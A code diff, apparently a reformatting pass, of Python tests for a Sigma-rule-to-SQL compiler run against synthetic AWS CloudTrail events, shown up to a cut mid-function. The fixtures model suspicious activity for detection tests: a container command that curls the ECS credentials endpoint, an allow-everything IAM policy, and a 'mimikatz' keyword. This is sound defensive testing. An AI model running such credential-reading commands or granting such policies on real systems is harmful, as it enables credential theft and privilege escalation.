@@ -24,31 +24,106 @@ DUCK, TRINO = render.get("duckdb"), render.get("trino")
 
 def _records() -> list[dict]:
     return [
-        record("StopLogging", "cloudtrail.amazonaws.com", user("alice", "AKIAALICE"), at(0), event_id="stop",
-               rp={"name": "main-trail"}),
-        record("UpdateFunctionConfiguration20150331v2", "lambda.amazonaws.com", user("bob"), at(1),
-               event_id="lambda", rp={"functionName": "f", "layers": ["arn:aws:lambda:us-east-1:1:layer:x:1"]}),
+        record(
+            "StopLogging",
+            "cloudtrail.amazonaws.com",
+            user("alice", "AKIAALICE"),
+            at(0),
+            event_id="stop",
+            rp={"name": "main-trail"},
+        ),
+        record(
+            "UpdateFunctionConfiguration20150331v2",
+            "lambda.amazonaws.com",
+            user("bob"),
+            at(1),
+            event_id="lambda",
+            rp={"functionName": "f", "layers": ["arn:aws:lambda:us-east-1:1:layer:x:1"]},
+        ),
         record("UpdateFunctionConfigurationX", "lambda.amazonaws.com", user("bob"), at(2), event_id="lambda_x"),
-        record("CreateAccessKey", "iam.amazonaws.com", user("alice"), at(3), event_id="key_other",
-               rp={"userName": "bob"}, re={"accessKey": {"userName": "bob", "accessKeyId": "AKIANEW1"}}),
-        record("CreateAccessKey", "iam.amazonaws.com", user("bob"), at(4), event_id="key_self",
-               rp={"userName": "bob"}, re={"accessKey": {"userName": "Bob", "accessKeyId": "AKIANEW2"}}),
-        record("ListBuckets", "s3.amazonaws.com", root(), at(5), event_id="root_list", ip="203.0.113.9",
-               ua="Mozilla/5.0 (*special*) 100%_done"),
-        record("GetObject", "s3.amazonaws.com", session("Admin", "i-0abc"), at(6), event_id="session_get",
-               ip="10.1.2.3", error="AccessDenied", rp={"bucketName": "b", "size": 42, "public": False}),
-        record("PutBucketPublicAccessBlock", "s3.amazonaws.com", user("carol"), at(7), event_id="pab",
-               rp={"PublicAccessBlockConfiguration": {"RestrictPublicBuckets": False, "BlockPublicAcls": True}}),
-        record("ConsoleLogin", "signin.amazonaws.com", user("dave"), at(8), event_id="login",
-               re={"ConsoleLogin": "Success"}, extra={"additionalEventData": {"MFAUsed": "No"}}),
-        record("PutUserPolicy", "iam.amazonaws.com", user("eve"), at(9), event_id="inline",
-               rp={"userName": "eve", "policyName": "p",
-                   "policyDocument": '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", '
-                                     '"Action": "*", "Resource": "*"}]}'}),
-        record("UpdateLoginProfile", "iam.amazonaws.com", user("frank"), at(10), event_id="login_profile_other",
-               rp={"userName": "grace"}),
-        record("UpdateLoginProfile", "iam.amazonaws.com", user("frank"), at(11), event_id="login_profile_self",
-               rp={"userName": "arn:aws:iam::111111111111:user/frank"}),
+        record(
+            "CreateAccessKey",
+            "iam.amazonaws.com",
+            user("alice"),
+            at(3),
+            event_id="key_other",
+            rp={"userName": "bob"},
+            re={"accessKey": {"userName": "bob", "accessKeyId": "AKIANEW1"}},
+        ),
+        record(
+            "CreateAccessKey",
+            "iam.amazonaws.com",
+            user("bob"),
+            at(4),
+            event_id="key_self",
+            rp={"userName": "bob"},
+            re={"accessKey": {"userName": "Bob", "accessKeyId": "AKIANEW2"}},
+        ),
+        record(
+            "ListBuckets",
+            "s3.amazonaws.com",
+            root(),
+            at(5),
+            event_id="root_list",
+            ip="203.0.113.9",
+            ua="Mozilla/5.0 (*special*) 100%_done",
+        ),
+        record(
+            "GetObject",
+            "s3.amazonaws.com",
+            session("Admin", "i-0abc"),
+            at(6),
+            event_id="session_get",
+            ip="10.1.2.3",
+            error="AccessDenied",
+            rp={"bucketName": "b", "size": 42, "public": False},
+        ),
+        record(
+            "PutBucketPublicAccessBlock",
+            "s3.amazonaws.com",
+            user("carol"),
+            at(7),
+            event_id="pab",
+            rp={"PublicAccessBlockConfiguration": {"RestrictPublicBuckets": False, "BlockPublicAcls": True}},
+        ),
+        record(
+            "ConsoleLogin",
+            "signin.amazonaws.com",
+            user("dave"),
+            at(8),
+            event_id="login",
+            re={"ConsoleLogin": "Success"},
+            extra={"additionalEventData": {"MFAUsed": "No"}},
+        ),
+        record(
+            "PutUserPolicy",
+            "iam.amazonaws.com",
+            user("eve"),
+            at(9),
+            event_id="inline",
+            rp={
+                "userName": "eve",
+                "policyName": "p",
+                "policyDocument": '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", '
+                '"Action": "*", "Resource": "*"}]}',
+            },
+        ),
+        record(
+            "UpdateLoginProfile",
+            "iam.amazonaws.com",
+            user("frank"),
+            at(10),
+            event_id="login_profile_other",
+            rp={"userName": "grace"},
+        ),
+        record(
+            "UpdateLoginProfile",
+            "iam.amazonaws.com",
+            user("frank"),
+            at(11),
+            event_id="login_profile_self",
+            rp={"userName": "arn:aws:iam::111111111111:user/frank"},
+        ),
     ]
 
 
@@ -61,8 +136,15 @@ def con():
 
 
 def rule(detection: dict, **extra) -> object:
-    return parse_rule({"title": "t", "id": "t", "logsource": {"product": "aws", "service": "cloudtrail"},
-                       "detection": detection, **extra})
+    return parse_rule(
+        {
+            "title": "t",
+            "id": "t",
+            "logsource": {"product": "aws", "service": "cloudtrail"},
+            "detection": detection,
+            **extra,
+        }
+    )
 
 
 def hits(con, detection: dict) -> set[str]:
@@ -83,8 +165,9 @@ def test_list_values_are_or(con):
 
 
 def test_fields_of_one_selection_are_and(con):
-    assert hits(con, {"s": {"eventName": "CreateAccessKey", "userIdentity.arn|endswith": "/bob"},
-                      "condition": "s"}) == {"key_self"}
+    assert hits(
+        con, {"s": {"eventName": "CreateAccessKey", "userIdentity.arn|endswith": "/bob"}, "condition": "s"}
+    ) == {"key_self"}
 
 
 def test_api_version_suffix_matches_the_plain_name(con):
@@ -114,16 +197,19 @@ def test_sigma_wildcards_and_escapes(con):
 
 
 def test_contains_all(con):
-    det = {"s": {"requestParameters.policyDocument|contains|all": ['"Effect": "Allow"', '"Action": "*"']},
-           "condition": "s"}
+    det = {
+        "s": {"requestParameters.policyDocument|contains|all": ['"Effect": "Allow"', '"Action": "*"']},
+        "condition": "s",
+    }
     assert hits(con, det) == {"inline"}
     det["s"]["requestParameters.policyDocument|contains|all"].append('"Action": "s3:*"')
     assert hits(con, det) == set()
 
 
 def test_regex_is_case_sensitive_unless_i(con):
-    assert hits(con, {"s": {"userIdentity.arn|re": ":assumed-role/Admin/i-[0-9a-f]+$"}, "condition": "s"}) \
-        == {"session_get"}
+    assert hits(con, {"s": {"userIdentity.arn|re": ":assumed-role/Admin/i-[0-9a-f]+$"}, "condition": "s"}) == {
+        "session_get"
+    }
     assert hits(con, {"s": {"userIdentity.arn|re": ":assumed-role/admin/"}, "condition": "s"}) == set()
     assert hits(con, {"s": {"userIdentity.arn|re|i": ":assumed-role/admin/"}, "condition": "s"}) == {"session_get"}
 
@@ -137,10 +223,23 @@ def test_cidr(con):
 def test_cidr_edges_and_ipv6():
     """pySigma expands a network into prefixes: exactly the network, IPv6 included."""
     c = duckdb.connect()
-    ips = {"a": "192.168.4.1", "b": "192.168.7.255", "c": "192.168.8.0", "d": "192.168.3.9", "e": "1.2.3.4",
-           "f": "1.2.3.40", "v6": "2001:DB8::1", "v6_out": "2001:db9::1"}
-    store.insert_records(c, [record("GetCallerIdentity", "sts.amazonaws.com", user("x"), at(i), event_id=k, ip=ip)
-                             for i, (k, ip) in enumerate(ips.items())])
+    ips = {
+        "a": "192.168.4.1",
+        "b": "192.168.7.255",
+        "c": "192.168.8.0",
+        "d": "192.168.3.9",
+        "e": "1.2.3.4",
+        "f": "1.2.3.40",
+        "v6": "2001:DB8::1",
+        "v6_out": "2001:db9::1",
+    }
+    store.insert_records(
+        c,
+        [
+            record("GetCallerIdentity", "sts.amazonaws.com", user("x"), at(i), event_id=k, ip=ip)
+            for i, (k, ip) in enumerate(ips.items())
+        ],
+    )
     assert hits(c, {"s": {"sourceIPAddress|cidr": "192.168.4.0/22"}, "condition": "s"}) == {"a", "b"}
     assert hits(c, {"s": {"sourceIPAddress|cidr": "1.2.3.4/32"}, "condition": "s"}) == {"e"}
     assert hits(c, {"s": {"sourceIPAddress|cidr": "2001:db8::/32"}, "condition": "s"}) == {"v6"}
@@ -166,21 +265,28 @@ def test_nested_json_fields_numbers_and_booleans(con):
 
 def test_identity_fields_use_columns(con):
     assert hits(con, {"s": {"userIdentity.type": "root"}, "condition": "s"}) == {"root_list"}
-    assert hits(con, {"s": {"userIdentity.sessionContext.sessionIssuer.arn|endswith": ":role/Admin"},
-                      "condition": "s"}) == {"session_get"}
-    assert hits(con, {"s": {"userIdentity.sessionContext.attributes.mfaAuthenticated": "false"},
-                      "condition": "s"}) == {"session_get"}
+    assert hits(
+        con, {"s": {"userIdentity.sessionContext.sessionIssuer.arn|endswith": ":role/Admin"}, "condition": "s"}
+    ) == {"session_get"}
+    assert hits(con, {"s": {"userIdentity.sessionContext.attributes.mfaAuthenticated": "false"}, "condition": "s"}) == {
+        "session_get"
+    }
     w = compile_rule(rule({"s": {"userIdentity.type": "Root"}, "condition": "s"}), DUCK).where
     assert "identity_type" in w and "json" not in w
 
 
 def test_fieldref(con):
-    det = {"s": {"eventName": "UpdateLoginProfile"}, "f": {"userIdentity.arn|fieldref": "requestParameters.userName"},
-           "condition": "s and not f"}
+    det = {
+        "s": {"eventName": "UpdateLoginProfile"},
+        "f": {"userIdentity.arn|fieldref": "requestParameters.userName"},
+        "condition": "s and not f",
+    }
     assert hits(con, det) == {"login_profile_other"}
-    det = {"s": {"eventName": "CreateAccessKey"},
-           "f": {"userIdentity.arn|fieldref|contains": "responseElements.accessKey.userName"},
-           "condition": "s and not f"}
+    det = {
+        "s": {"eventName": "CreateAccessKey"},
+        "f": {"userIdentity.arn|fieldref|contains": "responseElements.accessKey.userName"},
+        "condition": "s and not f",
+    }
     assert hits(con, det) == {"key_other"}  # 'Bob' vs '.../bob': case-insensitive
 
 
@@ -188,13 +294,20 @@ def test_condition_operators(con):
     base = {"a": {"eventName": "StopLogging"}, "b": {"eventName": "ListBuckets"}, "c": {"userIdentity.type": "Root"}}
     assert hits(con, {**base, "condition": "a or b and c"}) == {"stop", "root_list"}
     assert hits(con, {**base, "condition": "(a or b) and not c"}) == {"stop"}
-    assert hits(con, {**base, "condition": "not (a or b or c)"}) == {r["eventID"] for r in _records()} - {"stop", "root_list"}
+    assert hits(con, {**base, "condition": "not (a or b or c)"}) == {r["eventID"] for r in _records()} - {
+        "stop",
+        "root_list",
+    }
     assert hits(con, {**base, "condition": "a AND NOT c"}) == {"stop"}
 
 
 def test_quantifiers(con):
-    det = {"sel_a": {"eventName": "StopLogging"}, "sel_b": {"eventName": "ListBuckets"},
-           "_hidden": {"eventName": "GetObject"}, "filter": {"userIdentity.type": "Root"}}
+    det = {
+        "sel_a": {"eventName": "StopLogging"},
+        "sel_b": {"eventName": "ListBuckets"},
+        "_hidden": {"eventName": "GetObject"},
+        "filter": {"userIdentity.type": "Root"},
+    }
     assert hits(con, {**det, "condition": "1 of sel_*"}) == {"stop", "root_list"}
     assert hits(con, {**det, "condition": "all of sel_*"}) == set()
     assert hits(con, {**det, "condition": "1 of them"}) == {"stop", "root_list"}
@@ -216,25 +329,29 @@ def test_unknown_field_is_absent_with_a_warning(con):
     r = rule({"s": {"eventName": "ConsoleLogin", "status": "success"}, "condition": "s"})
     comp = compile_rule(r, DUCK)
     assert comp.warnings and "status" in comp.warnings[0]
-    assert hits(con, {"s": {"eventName": "ListBuckets"}, "f": {"type": "AssumedRole"},
-                      "condition": "s and not f"}) == {"root_list"}
+    assert hits(con, {"s": {"eventName": "ListBuckets"}, "f": {"type": "AssumedRole"}, "condition": "s and not f"}) == {
+        "root_list"
+    }
 
 
-@pytest.mark.parametrize("detection, message", [
-    ({"s": {"eventName": "x"}, "condition": "s | count() by userIdentity.arn > 5 and x"}, "aggregation"),
-    ({"s": {"eventName|nosuchmodifier": "x"}, "condition": "s"}, "nosuchmodifier"),
-    ({"s": {"eventName|expand": "%x%"}, "condition": "s"}, "placeholder %x%"),
-    ({"s": {"eventTime|minute": 5}, "condition": "s"}, "time-part"),
-    ({"s": ["mimikatz", "x"], "condition": "s"}, "keyword"),
-    ({"s": {"eventName": "x"}, "condition": "s and missing"}, "'missing' not defined"),
-    ({"s": {"eventName": "x"}, "condition": "(s"}, "Unbalanced parentheses"),
-    ({"s": {"eventName": "x"}, "condition": "1 of nothing_*"}, "doesn't match any detection"),
-    ({"s": {"eventName": "x"}, "condition": "s and"}, "found end of text"),
-    ({"s": {"eventName|re": "(unclosed"}, "condition": "s"}, "Regular expression '(unclosed' is invalid"),
-    ({"s": {"sourceIPAddress|cidr": "not-a-net"}, "condition": "s"}, "Invalid CIDR"),
-    ({"s": {"errorCode|exists": "true"}, "condition": "s"}, "SigmaExistsModifier"),
-    ({"s": {"eventName": "x"}, "condition": "not " * 3000 + "s"}, "nested too deeply"),
-])
+@pytest.mark.parametrize(
+    "detection, message",
+    [
+        ({"s": {"eventName": "x"}, "condition": "s | count() by userIdentity.arn > 5 and x"}, "aggregation"),
+        ({"s": {"eventName|nosuchmodifier": "x"}, "condition": "s"}, "nosuchmodifier"),
+        ({"s": {"eventName|expand": "%x%"}, "condition": "s"}, "placeholder %x%"),
+        ({"s": {"eventTime|minute": 5}, "condition": "s"}, "time-part"),
+        ({"s": ["mimikatz", "x"], "condition": "s"}, "keyword"),
+        ({"s": {"eventName": "x"}, "condition": "s and missing"}, "'missing' not defined"),
+        ({"s": {"eventName": "x"}, "condition": "(s"}, "Unbalanced parentheses"),
+        ({"s": {"eventName": "x"}, "condition": "1 of nothing_*"}, "doesn't match any detection"),
+        ({"s": {"eventName": "x"}, "condition": "s and"}, "found end of text"),
+        ({"s": {"eventName|re": "(unclosed"}, "condition": "s"}, "Regular expression '(unclosed' is invalid"),
+        ({"s": {"sourceIPAddress|cidr": "not-a-net"}, "condition": "s"}, "Invalid CIDR"),
+        ({"s": {"errorCode|exists": "true"}, "condition": "s"}, "SigmaExistsModifier"),
+        ({"s": {"eventName": "x"}, "condition": "not " * 3000 + "s"}, "nested too deeply"),
+    ],
+)
 def test_unsupported_constructs_raise_clear_errors(detection, message):
     with pytest.raises(SigmaError, match=re.escape(message)):
         compile_rule(rule(detection), DUCK)  # parse_rule (pySigma's checks) or the backend: one line each
@@ -247,8 +364,17 @@ def test_parse_rule_rejects_broken_documents():
         parse_rule({"title": "x", "detection": {"s": {"a": 1}}})
     with pytest.raises(SigmaError, match="log source"):
         parse_rule({"title": "x", "detection": {"s": {"a": 1}, "condition": "s"}})
-    assert parse_rule({"title": "x", "level": "informational", "logsource": {"product": "aws"},
-                       "detection": {"s": {"a": 1}, "condition": "s"}}).level == "info"
+    assert (
+        parse_rule(
+            {
+                "title": "x",
+                "level": "informational",
+                "logsource": {"product": "aws"},
+                "detection": {"s": {"a": 1}, "condition": "s"},
+            }
+        ).level
+        == "info"
+    )
 
 
 def test_windash_is_ignored(con):
@@ -256,6 +382,7 @@ def test_windash_is_ignored(con):
 
 
 # ---------------------------------------------------------------- wildcard semantics vs an oracle
+
 
 def _oracle(pattern: str, text: str) -> bool:
     """Sigma semantics in Python: * any, ? one, backslash escapes *, ? and itself; case-insensitive."""
@@ -274,8 +401,35 @@ def _oracle(pattern: str, text: str) -> bool:
 _alphabet = st.sampled_from(list("aAb%_*?\\'. "))
 
 
-_TEXTS = ["", "a", "A", "ab", "aAb", "%", "_", "*", "?", "\\", "'", "a.b", "a b", "a%b", "a_b", "a*b", "a?b",
-          "a\\b", "ba", "bab", "aa", "%_", "*?", "A%B_", "''", "a\\*", "abAB"]
+_TEXTS = [
+    "",
+    "a",
+    "A",
+    "ab",
+    "aAb",
+    "%",
+    "_",
+    "*",
+    "?",
+    "\\",
+    "'",
+    "a.b",
+    "a b",
+    "a%b",
+    "a_b",
+    "a*b",
+    "a?b",
+    "a\\b",
+    "ba",
+    "bab",
+    "aa",
+    "%_",
+    "*?",
+    "A%B_",
+    "''",
+    "a\\*",
+    "abAB",
+]
 
 
 @settings(max_examples=150, deadline=None)
@@ -284,8 +438,9 @@ def test_value_matching_agrees_with_sigma_semantics(pattern, con):
     """One query per pattern over a fixed set of tricky texts (LIKE metacharacters, quotes, escapes)."""
     r = rule({"s": {"userAgent": pattern}, "condition": "s"})
     where = compile_rule(r, DUCK).where
-    rows = con.execute(f"SELECT user_agent FROM (SELECT unnest(?::VARCHAR[]) AS user_agent) WHERE {where}",
-                       [_TEXTS]).fetchall()
+    rows = con.execute(
+        f"SELECT user_agent FROM (SELECT unnest(?::VARCHAR[]) AS user_agent) WHERE {where}", [_TEXTS]
+    ).fetchall()
     assert {x[0] for x in rows} == {t for t in _TEXTS if _oracle(pattern, t)}
 
 
@@ -329,14 +484,28 @@ def test_sigmahq_rules_match_what_they_describe(con):
 
 def test_imds_rule_regex_and_filters():
     c = duckdb.connect()
-    store.insert_records(c, [
-        record("ListBuckets", "s3.amazonaws.com", session("aws:ec2-instance", "i-1"), at(0), event_id="pivot"),
-        record("RegisterManagedInstance", "ssm.amazonaws.com", session("aws:ec2-instance", "i-1"), at(1),
-               event_id="ssm"),
-        record("ListBuckets", "s3.amazonaws.com", session("aws:ec2-instance", "i-1"), at(2), event_id="internal",
-               ip="AWS Internal"),
-        record("ListBuckets", "s3.amazonaws.com", session("Admin", "x"), at(3), event_id="plain"),
-    ])
+    store.insert_records(
+        c,
+        [
+            record("ListBuckets", "s3.amazonaws.com", session("aws:ec2-instance", "i-1"), at(0), event_id="pivot"),
+            record(
+                "RegisterManagedInstance",
+                "ssm.amazonaws.com",
+                session("aws:ec2-instance", "i-1"),
+                at(1),
+                event_id="ssm",
+            ),
+            record(
+                "ListBuckets",
+                "s3.amazonaws.com",
+                session("aws:ec2-instance", "i-1"),
+                at(2),
+                event_id="internal",
+                ip="AWS Internal",
+            ),
+            record("ListBuckets", "s3.amazonaws.com", session("Admin", "x"), at(3), event_id="plain"),
+        ],
+    )
     assert _fixture_hits(c, "aws_cloudtrail_imds_malicious_usage") == {"pivot"}
     c.close()
 
@@ -351,8 +520,12 @@ def test_exists_false(con):
 
 # ---------------------------------------------------------------- conditions vs Python's own precedence
 
-_SELECTIONS = {"a": {"eventName": "StopLogging"}, "b": {"userIdentity.type": "Root"},
-               "c": {"eventSource": "s3.amazonaws.com"}, "d": {"errorCode|exists": True}}
+_SELECTIONS = {
+    "a": {"eventName": "StopLogging"},
+    "b": {"userIdentity.type": "Root"},
+    "c": {"eventSource": "s3.amazonaws.com"},
+    "d": {"errorCode|exists": True},
+}
 
 
 def _expr(depth: int):
@@ -372,8 +545,10 @@ def _expr(depth: int):
 @given(text=_expr(3))
 def test_condition_precedence_matches_python(text, con):
     rows = con.execute("SELECT event_id, event_name, identity_type, event_source, error_code FROM events").fetchall()
-    truth = {r[0]: {"a": r[1] == "StopLogging", "b": r[2] == "Root", "c": r[3] == "s3.amazonaws.com",
-                    "d": r[4] is not None} for r in rows}
+    truth = {
+        r[0]: {"a": r[1] == "StopLogging", "b": r[2] == "Root", "c": r[3] == "s3.amazonaws.com", "d": r[4] is not None}
+        for r in rows
+    }
     expected = {eid: eval(text, {}, env) for eid, env in truth.items()}  # noqa: S307 - generated text
     got = hits(con, {**_SELECTIONS, "condition": text})
     assert got == {eid for eid, v in expected.items() if v}
@@ -382,22 +557,69 @@ def test_condition_precedence_matches_python(text, con):
 def test_whole_subtree_matching_and_contains_star():
     c = duckdb.connect()
     doc = policy({"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": ["arn:aws:s3:::<YOUR-BUCKET-NAME>/*"]})
-    store.insert_records(c, [
-        record("PutUserPolicy", "iam.amazonaws.com", user("x"), at(0), ua="S3 Browser 9.5.5", event_id="s3b",
-               rp={"userName": "x", "policyName": "p", "policyDocument": doc}),
-        record("PutUserPolicy", "iam.amazonaws.com", user("x"), at(1), ua="aws-cli/2", event_id="cli",
-               rp={"userName": "x", "policyName": "p", "policyDocument": doc}),
-        record("CreateInstanceExportTask", "ec2.amazonaws.com", user("x"), at(2), event_id="export_ok",
-               re={"exportTask": {"state": "active"}}),
-        record("CreateInstanceExportTask", "ec2.amazonaws.com", user("x"), at(3), event_id="export_denied",
-               error="AccessDenied"),
-        record("CreateInstanceExportTask", "ec2.amazonaws.com", user("x"), at(4), event_id="export_failed",
-               re={"exportTask": {"state": "Failure"}}),
-        record("RestoreDBInstanceFromDBSnapshot", "rds.amazonaws.com", user("x"), at(5), event_id="public_db",
-               re={"publiclyAccessible": True}),
-        record("RestoreDBInstanceFromDBSnapshot", "rds.amazonaws.com", user("x"), at(6), event_id="private_db",
-               re={"publiclyAccessible": False}),
-    ])
+    store.insert_records(
+        c,
+        [
+            record(
+                "PutUserPolicy",
+                "iam.amazonaws.com",
+                user("x"),
+                at(0),
+                ua="S3 Browser 9.5.5",
+                event_id="s3b",
+                rp={"userName": "x", "policyName": "p", "policyDocument": doc},
+            ),
+            record(
+                "PutUserPolicy",
+                "iam.amazonaws.com",
+                user("x"),
+                at(1),
+                ua="aws-cli/2",
+                event_id="cli",
+                rp={"userName": "x", "policyName": "p", "policyDocument": doc},
+            ),
+            record(
+                "CreateInstanceExportTask",
+                "ec2.amazonaws.com",
+                user("x"),
+                at(2),
+                event_id="export_ok",
+                re={"exportTask": {"state": "active"}},
+            ),
+            record(
+                "CreateInstanceExportTask",
+                "ec2.amazonaws.com",
+                user("x"),
+                at(3),
+                event_id="export_denied",
+                error="AccessDenied",
+            ),
+            record(
+                "CreateInstanceExportTask",
+                "ec2.amazonaws.com",
+                user("x"),
+                at(4),
+                event_id="export_failed",
+                re={"exportTask": {"state": "Failure"}},
+            ),
+            record(
+                "RestoreDBInstanceFromDBSnapshot",
+                "rds.amazonaws.com",
+                user("x"),
+                at(5),
+                event_id="public_db",
+                re={"publiclyAccessible": True},
+            ),
+            record(
+                "RestoreDBInstanceFromDBSnapshot",
+                "rds.amazonaws.com",
+                user("x"),
+                at(6),
+                event_id="private_db",
+                re={"publiclyAccessible": False},
+            ),
+        ],
+    )
     assert _fixture_hits(c, "aws_iam_s3browser_templated_s3_bucket_policy_creation") == {"s3b"}
     assert _fixture_hits(c, "aws_ec2_vm_export_failure") == {"export_ok"}
     assert _fixture_hits(c, "aws_rds_public_db_restore") == {"public_db"}
@@ -406,20 +628,45 @@ def test_whole_subtree_matching_and_contains_star():
 
 def test_nested_fields_inside_lists_match_any_element():
     c = duckdb.connect()
-    sg = {"groupId": "sg-1", "ipPermissions": {"items": [
-        {"ipProtocol": "tcp", "fromPort": 22, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}},
-        {"ipProtocol": "tcp", "fromPort": 3389, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}
-    closed = {"groupId": "sg-2", "ipPermissions": {"items": [
-        {"ipProtocol": "tcp", "fromPort": 22, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}}]}}
-    ecs = {"family": "f", "containerDefinitions": [{"name": "c", "command": [
-        "sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]}
-    store.insert_records(c, [
-        record("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", user("x"), at(0), rp=sg, event_id="open"),
-        record("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", user("x"), at(1), rp=closed, event_id="closed"),
-        record("RegisterTaskDefinition", "ecs.amazonaws.com", user("x"), at(2), rp=ecs, event_id="ecs"),
-        record("RegisterTaskDefinition", "ecs.amazonaws.com", user("x"), at(3), event_id="ecs_plain",
-               rp={"family": "f", "containerDefinitions": [{"name": "c", "command": ["sleep", "1"]}]}),
-    ])
+    sg = {
+        "groupId": "sg-1",
+        "ipPermissions": {
+            "items": [
+                {"ipProtocol": "tcp", "fromPort": 22, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}},
+                {"ipProtocol": "tcp", "fromPort": 3389, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}},
+            ]
+        },
+    }
+    closed = {
+        "groupId": "sg-2",
+        "ipPermissions": {
+            "items": [{"ipProtocol": "tcp", "fromPort": 22, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}}]
+        },
+    }
+    ecs = {
+        "family": "f",
+        "containerDefinitions": [
+            {"name": "c", "command": ["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}
+        ],
+    }
+    store.insert_records(
+        c,
+        [
+            record("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", user("x"), at(0), rp=sg, event_id="open"),
+            record(
+                "AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", user("x"), at(1), rp=closed, event_id="closed"
+            ),
+            record("RegisterTaskDefinition", "ecs.amazonaws.com", user("x"), at(2), rp=ecs, event_id="ecs"),
+            record(
+                "RegisterTaskDefinition",
+                "ecs.amazonaws.com",
+                user("x"),
+                at(3),
+                event_id="ecs_plain",
+                rp={"family": "f", "containerDefinitions": [{"name": "c", "command": ["sleep", "1"]}]},
+            ),
+        ],
+    )
     det = {"s": {"requestParameters.ipPermissions.items.ipRanges.items.cidrIp": "0.0.0.0/0"}, "condition": "s"}
     assert hits(c, det) == {"open"}
     det = {"s": {"requestParameters.ipPermissions.items.fromPort": [3389, 445]}, "condition": "s"}
@@ -437,18 +684,25 @@ _plain = st.sampled_from(list("aAb%_.' "))
 
 
 @settings(max_examples=100, deadline=None)
-@given(pattern=st.text(st.sampled_from(list("aAb%_*?.' ")), max_size=5),
-       modifier=st.sampled_from(["", "|contains", "|startswith", "|endswith"]),
-       docs=st.lists(st.lists(st.one_of(st.text(_plain, max_size=5), st.lists(st.text(_plain, max_size=5), max_size=3)),
-                              max_size=3), min_size=1, max_size=4))
+@given(
+    pattern=st.text(st.sampled_from(list("aAb%_*?.' ")), max_size=5),
+    modifier=st.sampled_from(["", "|contains", "|startswith", "|endswith"]),
+    docs=st.lists(
+        st.lists(st.one_of(st.text(_plain, max_size=5), st.lists(st.text(_plain, max_size=5), max_size=3)), max_size=3),
+        min_size=1,
+        max_size=4,
+    ),
+)
 def test_values_inside_lists_agree_with_any_element_semantics(pattern, modifier, docs, con):
     """``requestParameters.items.v`` over ``{"items": [{"v": "x"}, {"v": ["y", "z"]}]}``: a hit when any
     value matches (values without quotes or backslashes; the JSON text is what is searched)."""
     r = rule({"s": {f"requestParameters.items.v{modifier}": pattern}, "condition": "s"})
     where = compile_rule(r, DUCK).where
     texts = [json.dumps({"items": [{"v": v} for v in doc]}) for doc in docs]
-    rows = con.execute(f"SELECT i FROM (SELECT unnest(range(len(?))) AS i, unnest(?::JSON[]) AS request_parameters) "
-                       f"WHERE {where}", [texts, texts]).fetchall()
+    rows = con.execute(
+        f"SELECT i FROM (SELECT unnest(range(len(?))) AS i, unnest(?::JSON[]) AS request_parameters) WHERE {where}",
+        [texts, texts],
+    ).fetchall()
     wrapped = {"": pattern, "|contains": f"*{pattern}*", "|startswith": f"{pattern}*", "|endswith": f"*{pattern}"}
     values = [[x for v in doc for x in (v if isinstance(v, list) else [v])] for doc in docs]
     expected = {i for i, vals in enumerate(values) if any(_oracle(wrapped[modifier], x) for x in vals)}
@@ -458,9 +712,16 @@ def test_values_inside_lists_agree_with_any_element_semantics(pattern, modifier,
 # ---------------------------------------------------------------- correlation rules and count() aggregations
 
 _BASE = {"logsource": {"product": "aws", "service": "cloudtrail"}}
-_SECRET_READ = {**_BASE, "title": "Secret read", "name": "secret_read", "id": "secret-read",
-                "detection": {"s": {"eventSource": "secretsmanager.amazonaws.com",
-                                    "eventName": ["GetSecretValue", "BatchGetSecretValue"]}, "condition": "s"}}
+_SECRET_READ = {
+    **_BASE,
+    "title": "Secret read",
+    "name": "secret_read",
+    "id": "secret-read",
+    "detection": {
+        "s": {"eventSource": "secretsmanager.amazonaws.com", "eventName": ["GetSecretValue", "BatchGetSecretValue"]},
+        "condition": "s",
+    },
+}
 
 
 def _correlation(tmp_path, body: dict, *bases: dict) -> tuple[object, object]:
@@ -483,17 +744,33 @@ def _run(c, r) -> set[str]:
 
 def _secret_reads(plan: dict[str, list[float]]) -> duckdb.DuckDBPyConnection:
     c = duckdb.connect()
-    store.insert_records(c, [
-        record("GetSecretValue", "secretsmanager.amazonaws.com", user(who), at(m), event_id=f"{who}{i}",
-               rp={"secretId": f"s{i % 3}"})
-        for who, minutes in plan.items() for i, m in enumerate(minutes)])
+    store.insert_records(
+        c,
+        [
+            record(
+                "GetSecretValue",
+                "secretsmanager.amazonaws.com",
+                user(who),
+                at(m),
+                event_id=f"{who}{i}",
+                rp={"secretId": f"s{i % 3}"},
+            )
+            for who, minutes in plan.items()
+            for i, m in enumerate(minutes)
+        ],
+    )
     return c
 
 
 def test_event_count_correlation_counts_per_group_and_time_bucket(tmp_path):
     c = _secret_reads({"alice": [0, 1, 2, 3, 4, 65, 66], "bob": [0, 1, 2], "carol": [8, 9, 11, 12]})
-    body = {"type": "event_count", "rules": ["secret_read"], "group-by": ["userIdentity.arn"],
-            "timespan": "10m", "condition": {"gte": 4}}
+    body = {
+        "type": "event_count",
+        "rules": ["secret_read"],
+        "group-by": ["userIdentity.arn"],
+        "timespan": "10m",
+        "condition": {"gte": 4},
+    }
     corr, base = _correlation(tmp_path, body, _SECRET_READ)
     # alice: 5 in [0, 10); her 2 an hour later are another bucket; bob: 3; carol: 2 in [0, 10), 2 in [10, 20)
     assert _run(c, corr) == {"alice0", "alice1", "alice2", "alice3", "alice4"}
@@ -514,45 +791,79 @@ def test_event_count_correlation_counts_per_group_and_time_bucket(tmp_path):
 def test_value_count_correlation_counts_distinct_values(tmp_path):
     # secretId cycles s0, s1, s2: alice reads 3 distinct secrets, bob 2
     c = _secret_reads({"alice": [0, 1, 2], "bob": [0, 1, 2, 3][:2]})
